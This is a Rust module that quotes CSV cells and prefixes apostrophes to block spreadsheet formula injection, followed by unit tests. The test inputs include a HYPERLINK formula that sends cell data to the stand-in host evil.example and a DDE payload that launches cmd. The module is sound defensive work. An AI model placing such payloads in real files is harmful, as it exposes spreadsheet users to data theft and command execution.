//! CSV cells (RFC 4180), as every export writes them: what users and partners have written must neither break a row nor be taken
//! for a formula by the spreadsheet that it is opened in.

/// A cell. What a spreadsheet would reckon with begins with an apostrophe
/// (<https://owasp.org/www-community/attacks/CSV_Injection>); a number, also one to telephone, is left as it is.
pub fn cell(text: &str) -> String {
    let text = if is_formula(text) { format!("'{text}") } else { text.to_owned() };
    if text.contains([',', '"', '\n', '\r', ';']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text }
}

fn is_formula(text: &str) -> bool {
    let is_number = |rest: &str| !rest.is_empty() && rest.chars().all(|c| c.is_ascii_digit() || " ().".contains(c));
    match text.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !is_number(&text[1..]),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_breaks_its_row_or_is_taken_for_a_formula() {
        for (text, written) in [
            ("DHL", "DHL"),
            ("", ""),
            ("a,\"b\"", "\"a,\"\"b\"\"\""),
            ("a;b", "\"a;b\""),
            ("=HYPERLINK(\"https://evil.example/?\"&A1)", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\""),
            ("@SUM(1)", "'@SUM(1)"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("+1+1", "'+1+1"),
            ("+", "'+"),
            ("+44-20-7946-0958", "'+44-20-7946-0958"),
            ("+49/30/1234", "'+49/30/1234"),
            ("+44 (20) 7946 0958", "+44 (20) 7946 0958"),
            ("-5", "-5"),
        ] {
            assert_eq!(cell(text), written);
        }
    }
}
